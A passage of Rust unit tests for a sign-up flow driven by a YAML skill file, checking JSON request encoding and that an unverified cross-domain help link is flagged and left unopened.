    assert_eq!(sent.as_deref(), Some(r#"{"email":"ada@example.com","days":30,"plan":2}"#), "numbers are numbers");
}

#[test]
fn who_goes_back_from_one_way_to_another_is_told_of_that_one() {
    let text = "id: a\nwebsite: https://a.dev\nauth: {type: api_key, help_url: https://keys.b.dev/}\nunchecked: [help_url]\nsignup:\n  - mode: magic_link\n    request: {url: /ask, body: {email: .params.email}}\n";
    let mut play = Play::new(SignUp::new(Target::parse("./skill.yaml").expect("a target"), None), Fake::default());
    let source = Source::File(PathBuf::from("/skills/skill.yaml"));
    play.skill = Some(Ok(SkillFile { source, text: text.into(), seen: Seen::AsItWas }));
    play.begin().pick(0);
    assert_eq!(play.id(), "email");
    play.step(Input::Back);
    assert_eq!(play.id(), "offer");
    play.pick(1);
    let shown = play.text_shown();
    assert!(!shown.contains("has mailed"), "{shown}");
    assert!(shown.contains("keys.b.dev is of another domain") && shown.contains("Nobody has checked"), "{shown}");
    assert!(play.opened.is_empty(), "what nobody has checked is not opened");
}
